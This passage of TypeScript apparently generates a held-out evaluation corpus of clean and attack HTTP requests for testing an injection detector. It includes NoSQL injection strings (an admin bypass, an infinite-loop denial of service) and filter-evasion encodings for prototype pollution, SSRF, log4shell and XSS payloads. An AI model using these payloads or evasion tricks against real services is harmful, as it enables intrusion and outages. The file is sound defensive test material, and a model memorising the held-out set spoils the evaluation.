  'path-traversal': ['x-original-url', 'x-rewrite-url', 'x-file-name', 'x-locale-path'],
  ssrf: ['x-callback-url', 'x-forwarded-host', 'x-webhook-url', 'x-import-source'],
  log4shell: ['user-agent', 'x-api-version', 'referer', 'x-forwarded-for', 'authorization'],
  xss: ['user-agent', 'referer', 'x-display-name'],
};
const NOSQL_JS = [
  "x' || this.role == 'admin' || 'a'=='b",
  "'; while(true){}; var z='",
  "a'; return db.users.find().length > 0; var b='",
  "1' || sleep(5000) || '",
];
const KEY_CONTAINER: Record<string, string> = {
  sql: 'sort',
  template: 'merge_fields',
  command: 'flags',
  'path-traversal': 'files',
  ssrf: 'mirrors',
  log4shell: 'metadata',
  xss: 'labels',
};
const COOKIE_NAMES = ['lang', 'tracking_id', 'theme', 'last_view', 'region', 'prefs'];

/** Escape a string as JSON \u sequences for every non-alphanumeric char (and some letters). */
function uEsc(s: string): string {
  let out = '';
  for (const ch of s) {
    const c = ch.codePointAt(0) as number;
    if (/[A-Za-z0-9 ]/.test(ch) && !/[aeiojs]/.test(ch)) out += ch === ' ' ? ' ' : ch;
    else if (c < 0x10000) out += `\\u${c.toString(16).padStart(4, '0')}`;
    else out += JSON.stringify(ch).slice(1, -1);
  }
  return out;
}
const structured = (fam: string): boolean => fam === 'nosql' || fam === 'prototype-pollution';
const cookieVal = (s: string): string =>
  s.replace(/%/g, '%25').replace(/;/g, '%3B').replace(/ /g, '%20').replace(/,/g, '%2C').replace(/\n/g, '%0A');
const dbl = (s: string): string => encodeURIComponent(encodeURIComponent(s));
const mergeInto = (base: Record<string, unknown>, o: unknown): Record<string, unknown> => {
  const out: Record<string, unknown> = JSON.parse(JSON.stringify(base));
  for (const [k, v] of Object.entries(o as Record<string, unknown>))
    Object.defineProperty(out, k, { value: v, enumerable: true, writable: true, configurable: true });
  return out;
};
const bodyHeaders = (t: Target, ct: string): Hdrs => anyH(ct, t.site);

type Built = { method: string; path: string; headers: Hdrs; body: string };
const TECH: Record<string, (p: Payload, fam: string, t: Target) => Built> = {
  plain: (p, fam, t) => {
    const body =
      fam === 'prototype-pollution'
        ? mergeInto(t.extra, p.o)
        : { ...t.extra, [t.field]: structured(fam) ? p.o : p.s };
    return { method: t.method, path: t.path, headers: bodyHeaders(t, J), body: js(body) };
  },
  nested: (p, fam, t) => {
    const inner =
      fam === 'prototype-pollution'
        ? { [t.field]: mergeInto({ version: 2 }, p.o) }
        : { [t.field]: structured(fam) ? p.o : p.s };
    return {
      method: t.method,
      path: t.path,
      headers: bodyHeaders(t, J),
      body: js({ ...t.extra, data: { attributes: { options: inner } }, meta: { client: 'web' } }),
    };
  },
  key: (p, fam, t) => {
    let body: unknown;
    if (fam === 'prototype-pollution') {
      const [k, v] = (p.q ?? '__proto__[polluted]=yes').split('=');
      const dotted = (k as string).replace(/\[\]$/, '.0').replace(/\[([^\]]+)\]/g, '.$1');
      body = { ...t.extra, [t.field]: { [dotted]: v === 'true' ? true : v } };
    } else if (fam === 'nosql') {
      const o = p.o as Record<string, unknown>;
      const top = Array.isArray(o) || ['$where', '$or', '$expr'].some((k) => k in o);
      const [qk, qv] = (p.q ?? `${t.field}[$ne]=x`).split('&')[0]!.split('=');
      body = Array.isArray(o)
        ? { ...t.extra, pipeline: o }
        : top
          ? { ...t.extra, [t.field]: 'x', ...o }
          : { ...t.extra, [qk as string]: qv ?? '' };
    } else
      body = {
        ...t.extra,
        [KEY_CONTAINER[fam] ?? 'fields']: {
          [p.s]: fam === 'sql' ? 'desc' : fam === 'path-traversal' ? 'IyEvYmluL3NoCg==' : true,
        },
      };
    return { method: t.method, path: t.path, headers: bodyHeaders(t, J), body: js(body) };
  },
  array: (p, fam, t) => {
    const v = structured(fam) ? p.o : p.s;
    const body =
      fam === 'prototype-pollution'
        ? { ...t.extra, items: [{ [t.field]: { a: 1 } }, v] }
        : { ...t.extra, [`${t.field}s`]: ['default', v] };
    return { method: t.method, path: t.path, headers: bodyHeaders(t, J), body: js(body) };
  },
  'unicode-escape': (p, fam, t) => {
    let body: string;
    if (structured(fam)) {
      const base =
        fam === 'prototype-pollution' ? js(mergeInto(t.extra, p.o)) : js({ ...t.extra, [t.field]: p.o });
      body = base
        .replace(/"\$/g, '"\\u0024')
        .replace(/__proto__/g, '\\u005f\\u005fproto\\u005f\\u005f')
        .replace(/"constructor"/g, '"\\u0063onstructor"');
    } else {
      body = js({ ...t.extra, [t.field]: '\u0001P\u0001' }).replace('"\\u0001P\\u0001"', `"${uEsc(p.s)}"`);
    }
    return { method: t.method, path: t.path, headers: bodyHeaders(t, JU), body };
  },
  'json-in-string': (p, fam, t) => {
    const inner =
      fam === 'prototype-pollution' ? js(p.o) : js({ [t.field]: structured(fam) ? p.o : p.s, v: 1 });
    return {
      method: t.method,
      path: t.path,
      headers: bodyHeaders(t, J),
      body: js({ ...t.extra, payload: inner }),
    };
  },
  base64: (p, fam, t) => {
    const inner = structured(fam) ? js(fam === 'prototype-pollution' ? p.o : { [t.field]: p.o }) : p.s;
    return {
      method: t.method,
      path: t.path,
      headers: bodyHeaders(t, J),
      body: js({ ...t.extra, encoding: 'base64', [structured(fam) ? 'state' : t.field]: b64(inner) }),
    };
  },
  'graphql-variable': (p, fam, t) => {
    const input =
      fam === 'prototype-pollution'
        ? mergeInto({ name: 'x' }, p.o)
        : { [t.field]: structured(fam) ? p.o : p.s };
    return {
      method: 'POST',
      path: '/graphql',
      headers: bodyHeaders(t, J),
      body: js({
        operationName: `Update${t.gql}`,
        query: `mutation Update${t.gql}($input: ${t.gql}Input!) { update${t.gql}(input: $input) { id updatedAt } }`,
        variables: { input },
      }),
    };
  },
  'double-encoded': (p, _fam, t) => {
    const q = p.q
      ? p.q
          .split('&')
          .map((kv) => kv.split('=').map(dbl).join('='))
          .join('&')
      : `${t.qparam}=${dbl(p.s)}`;
    return { method: 'GET', path: `${t.qpath}?${q}&page=1`, headers: anyH(null, t.site), body: '' };
  },
  'query-param': (p, _fam, t) => {
    const q = p.q ? p.q.replace(/\$/g, '%24') : `${t.qparam}=${encodeURIComponent(p.s)}`;
    return {
      method: 'GET',
      path: `${t.qpath}?${q}&limit=${int(10, 50)}`,
      headers: anyH(null, t.site),
      body: '',
    };
  },
  header: (p, fam, t) => {
    const h = anyH(null, t.site);
    const name = pick(HEADER_NAMES[fam] ?? ['user-agent']);
    h[name] = name === 'authorization' ? `Bearer ${p.s}` : p.s.replace(/[\r\n]/g, ' ');
    return { method: 'GET', path: `${t.qpath}?limit=20`, headers: h, body: '' };
  },
  cookie: (p, fam, t) => {
    const h = anyH(null, t.site);
    const v = structured(fam) ? `j:${js(fam === 'prototype-pollution' ? p.o : { [t.field]: p.o })}` : p.s;
    h.cookie = `sid=${hex(32)}; ${pick(COOKIE_NAMES)}=${cookieVal(v)}; _ga=GA1.1.${int(1e8, 9e8)}.${int(1.7e9, 1.79e9)}`;
    return { method: 'GET', path: `${t.qpath}?page=${int(1, 4)}`, headers: h, body: '' };
  },
  form: (p, _fam, t) => {
    const base = qs(
      Object.fromEntries(
        Object.entries(t.extra).filter(([, v]) => typeof v === 'string' || typeof v === 'number') as [
          string,
          string | number,
        ][],
      ),
    );
    const att = p.q ? p.q.replace(/\$/g, '%24') : `${encodeURIComponent(t.field)}=${encodeURIComponent(p.s)}`;
    return {
      method: t.method === 'GET' ? 'POST' : t.method,
      path: t.path,
      headers: browser('application/x-www-form-urlencoded', t.site),
      body: base ? `${base}&${att}` : att,
    };
  },
  multipart: (p, fam, t) => {
    const parts: { name: string; filename?: string; type?: string; value: string }[] = Object.entries(t.extra)
      .filter(([, v]) => typeof v === 'string')
      .map(([k, v]) => ({ name: k, value: v as string }));
    if (p.q) {
      for (const kv of p.q.split('&')) {
        const [k, v] = kv.split('=');
        parts.push({ name: k as string, value: v ?? '' });
      }
    } else if (fam === 'path-traversal' || fam === 'command') {
      parts.push({ name: 'file', filename: p.s, type: 'application/octet-stream', value: hex(48) });
    } else parts.push({ name: t.field, value: p.s });
    const m = multipart(parts);
    return { method: 'POST', path: t.path, headers: browser(m.ct, t.site), body: m.body };
  },
  embedded: (p, fam, t) => {
    const s = fam === 'nosql' ? pick(NOSQL_JS) : p.s;
    return {
      method: t.method,
      path: t.path,
      headers: bodyHeaders(t, J),
      body: js({
        ...t.extra,
        [fam === 'ssrf' ? 'message' : t.field]: pick(SENTENCES[t.site] ?? [(x: string) => `see ${x}`])(s),
      }),
    };
  },
};
const ALL_TECH = Object.keys(TECH);
const FAMILY_TECH: Record<string, string[]> = {
  'prototype-pollution': ALL_TECH.filter((x) => x !== 'header' && x !== 'embedded'),
};

const attacks: CorpusRequest[] = [];
const FAMILIES = [
  'sql',
  'nosql',
  'template',
  'command',
  'path-traversal',
  'ssrf',
  'prototype-pollution',
  'log4shell',
  'xss',
];
FAMILIES.forEach((fam, fi) => {
  const techs = FAMILY_TECH[fam] ?? ALL_TECH;
  const pays = PAYLOADS[fam] as Payload[];
  const tgts = TARGETS[fam] as Target[];
  for (let i = 0; i < (fi < 3 ? 34 : 33); i++) {
    const technique = techs[(i + fi * 2) % techs.length] as string;
    const p = pays[(i * 5 + fi) % pays.length] as Payload;
    const t = tgts[(i + Math.floor(i / tgts.length)) % tgts.length] as Target;
    const b = (TECH[technique] as (p: Payload, fam: string, t: Target) => Built)(p, fam, t);
    attacks.push({
      id: `h17a${attacks.length + 1}`,
      kind: 'attack',
      family: fam,
      technique,
      method: b.method,
      path: b.path,
      headers: b.headers,
      body: b.body,
    });
  }
});

/** Held-out corpus 17: clean API traffic and attacks across eight domains. */
export const heldout17: { readonly clean: CorpusRequest[]; readonly attacks: CorpusRequest[] } = {
  clean,
  attacks,
};

/** JSON body fields an operator would declare as rich-text HTML or source-code fields for these APIs. */
export const HELDOUT17_EXCLUDE_FIELDS: string[] = [
  'body.note.html',
  'body.space.description_html',
  'body.application.narrative_html',
  'body.article.body_html',
  'body.query.sql',
  'body.model.sql',
  'body.snippet.source',
  'body.flow.source',
  'body.readme',
];

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  const dir = dirname(fileURLToPath(import.meta.url));
  writeFileSync(join(dir, 'clean-heldout17.json'), JSON.stringify(clean, null, 2) + '\n');
  writeFileSync(join(dir, 'attacks-heldout17.json'), JSON.stringify(attacks, null, 2) + '\n');
  console.log(`heldout17: ${clean.length} clean, ${attacks.length} attacks`);
}
